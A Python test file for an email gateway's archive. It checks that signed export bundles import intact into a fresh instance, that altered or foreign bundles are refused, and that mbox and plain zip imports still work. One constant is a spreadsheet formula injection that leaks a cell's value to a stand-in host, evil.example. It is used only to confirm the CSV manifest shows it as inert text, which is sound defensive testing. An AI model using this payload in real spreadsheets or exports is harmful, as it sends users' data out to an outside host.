"""Export → import into a fresh instance keeps envelope, received date, direction, verdict, rules
and decision history, searchable and in the API's view; the bundle is signed and checked.

Two real instances (separate data dirs, keys and databases: SQLite files, or PostgreSQL
schemas), driven through ``mailwarden``'s own commands and the admin API.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from admin_api.users import add_user
from gateway.api import build_app
from quarantine.service import HoldRequest
from tests.conftest import pg_schema_url
from tests.harness import free_port, write_config
from tests.test_archive_support import build, put
from tests.test_retention_guard import _cli, _services

RECEIVED = 1_780_000_000.0
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _config(root: Path, url: str) -> Path:
    return write_config(root, database_url=url, next_hop="127.0.0.1:9", smtp_port=free_port(), api_port=free_port())


@pytest.fixture
def two_instances(tmp_path: Path, database_url: str) -> Iterator[tuple[Path, Path]]:
    if database_url.startswith("sqlite"):
        yield _config(tmp_path / "a", database_url), _config(tmp_path / "b", f"sqlite:///{tmp_path / 'b.db'}")
        return
    other = pg_schema_url()
    try:
        yield _config(tmp_path / "a", database_url), _config(tmp_path / "b", next(other))
    finally:
        other.close()


def _stage(config: Path) -> dict[str, int]:
    """A held-then-released outbound message (envelope differs from its headers: a Bcc), an
    inbound one rejected by a rule, and one whose subject is a spreadsheet formula."""
    services = _services(config)
    try:
        held_raw = build("Q3 合同 numbers", "confidential 合同 body", sender="amy@corp.example",
                         to=("bo@partner.example",))
        ids = {
            "held": put(services.archive, held_raw, mail_from="bounce+amy@corp.example",
                        rcpt_tos=["bo@partner.example", "hidden@partner.example"], received_at=RECEIVED,
                        direction="outbound", verdict="quarantined", rules=["outbound-confidential-marker"],
                        department="finance"),
            "rejected": put(services.archive, build("cheap pills", "buy now", sender="x@spam.example",
                                                    to=("amy@corp.example",)),
                            received_at=RECEIVED + 60, direction="inbound", verdict="rejected",
                            rules=["spam-threshold", "spam-phrases"]),
            "formula": put(services.archive, build(FORMULA, "hi", sender="eve@corp.example"),
                           received_at=RECEIVED + 120, direction="outbound", verdict="delivered"),
        }
        import hashlib

        with services.engine.begin() as conn:
            entry = services.quarantine.hold(conn, HoldRequest(
                archive_id=ids["held"], digest=hashlib.sha256(held_raw).hexdigest(),
                mail_from="bounce+amy@corp.example", recipients=["hidden@partner.example"],
                direction="outbound", department="finance", rules=["outbound-confidential-marker"],
                reviewers=["sup@corp.example"]))[0]
        services.quarantine.release(entry, "sup@corp.example", "approved: contract is public now")
        services.archive.index_pending()
        return ids
    finally:
        services.close()


def _view(config: Path, record_id: int) -> dict:
    services = _services(config)
    try:
        token = add_user(services.engine, f"auditor{record_id}", "auditor", [], None)
        client = TestClient(build_app(services))
        answer = client.get(f"/api/v1/archive/{record_id}", headers={"Authorization": f"Bearer {token}"})
        assert answer.status_code == 200, answer.text
        return answer.json()
    finally:
        services.close()


def _search(config: Path, q: str) -> list[dict]:
    services = _services(config)
    try:
        return [i.to_dict() for i in services.archive.iter_search(q)]
    finally:
        services.close()


KEPT = ("sender", "recipients", "received_at", "date", "direction", "verdict", "rules", "department",
        "event", "subject", "sha256", "message_id", "header_from")


def test_export_import_round_trip_keeps_everything(two_instances: tuple[Path, Path], tmp_path: Path,
                                                    capsys) -> None:
    """Failed on the old code: the zip was imported as one message, with nothing of its records."""
    src, dst = two_instances
    ids = _stage(src)
    key = _cli(src, "archive", "export-key", capsys=capsys).strip()
    assert key.startswith("ed25519:")
    bundle = tmp_path / "evidence.zip"
    total = len(_search(src, ""))      # the three, the release's record, and the notices the hold sent
    out = _cli(src, "archive", "export", "", "--out", str(bundle), capsys=capsys)
    assert f"exported {total} message(s)" in out and key in out
    with zipfile.ZipFile(bundle) as zf:
        rows = {r["id"]: r for r in csv.DictReader(io.StringIO(zf.read("manifest.csv").decode()))}
        manifest = json.loads(zf.read("manifest.json"))
    assert rows[str(ids["formula"])]["subject"] == "'" + FORMULA          # shown as text, never run
    held = next(r for r in manifest["records"] if r["id"] == ids["held"])
    assert [h["action"] for h in held["history"]] == ["held", "release"]

    out = _cli(dst, "archive", "import", str(bundle), "--public-key", key, capsys=capsys)
    assert f"signed by {key}" in out and f"imported {total}," in out
    # The same records, found by envelope, verdict and rule, with the same fields.
    before = {i["sha256"]: i for i in _search(src, "")}
    after = {i["sha256"]: i for i in _search(dst, "")}
    assert before.keys() == after.keys()
    for digest, item in before.items():
        assert {k: after[digest][k] for k in KEPT} == {k: item[k] for k in KEPT}
    found = _search(dst, "to:hidden@partner.example verdict:quarantined rule:outbound-confidential-marker 合同")
    assert [i["sender"] for i in found] == ["bounce+amy@corp.example"]
    assert [i["subject"] for i in _search(dst, "rule:spam-phrases direction:inbound")] == ["cheap pills"]
    # The view shows the same envelope, verdict, rules and history as on the source instance.
    view_src, view_dst = _view(src, ids["held"]), _view(dst, found[0]["id"])
    assert view_dst["record"] == view_src["record"]
    strip = [{k: h[k] for k in ("at", "actor", "action", "comment", "recipients")} for h in view_src["history"]]
    assert [{k: h[k] for k in ("at", "actor", "action", "comment", "recipients")} for h in view_dst["history"]] \
        == strip
    assert strip[-1]["comment"] == "approved: contract is public now"
    assert view_dst["subject"] == "Q3 合同 numbers"
    # Importing again adds nothing.
    assert f"imported 0, skipped {total}" in _cli(dst, "archive", "import", str(bundle), capsys=capsys)


def test_altered_or_foreign_bundle_is_refused(two_instances: tuple[Path, Path], tmp_path: Path, capsys) -> None:
    src, dst = two_instances
    _stage(src)
    bundle = tmp_path / "evidence.zip"
    _cli(src, "archive", "export", "", "--out", str(bundle), capsys=capsys)
    other_key = _cli(dst, "archive", "export-key", capsys=capsys).strip()
    from gateway.cli import main

    assert main(["archive", "import", str(bundle), "--public-key", other_key, "--config", str(dst)]) == 1
    assert "not by the expected" in capsys.readouterr().err
    # One message swapped inside the bundle: its digest no longer matches the signed manifest.
    altered = tmp_path / "altered.zip"
    with zipfile.ZipFile(bundle) as zin, zipfile.ZipFile(altered, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.endswith(".eml") and b"cheap pills" in data:
                data = data.replace(b"buy now", b"buy NOW")
            zout.writestr(info.filename, data)
    assert main(["archive", "import", str(altered), "--config", str(dst)]) == 1
    err = capsys.readouterr().err
    assert "does not match its digest" in err and err.strip().count("\n") == 0
    assert main(["archive", "verify-export", str(altered), "--config", str(dst)]) == 1
    assert "does not match its digest" in capsys.readouterr().err
    assert main(["archive", "verify-export", str(bundle), "--public-key", other_key, "--config", str(dst)]) == 1
    capsys.readouterr()
    assert "OK" in _cli(dst, "archive", "verify-export", str(bundle), capsys=capsys)
    assert _search(dst, "") == []


def test_mbox_and_plain_zip_import_keep_working(two_instances: tuple[Path, Path], tmp_path: Path, capsys) -> None:
    src, dst = two_instances
    _stage(src)
    box = tmp_path / "all.mbox"
    _cli(src, "archive", "export", "", "--out", str(box), "--format", "mbox", capsys=capsys)
    distinct = len({i["sha256"] for i in _search(src, "")})     # mbox import keeps one per content
    assert f"imported {distinct}," in _cli(dst, "archive", "import", str(box), capsys=capsys)
    plain = tmp_path / "plain.zip"
    with zipfile.ZipFile(plain, "w") as zf:
        zf.writestr("a.eml", build("plain one", "x"))
        zf.writestr("b.eml", build("plain two", "y"))
    assert "imported 2," in _cli(dst, "archive", "import", str(plain), capsys=capsys)
    assert {i["subject"] for i in _search(dst, "subject:plain")} == {"plain one", "plain two"}
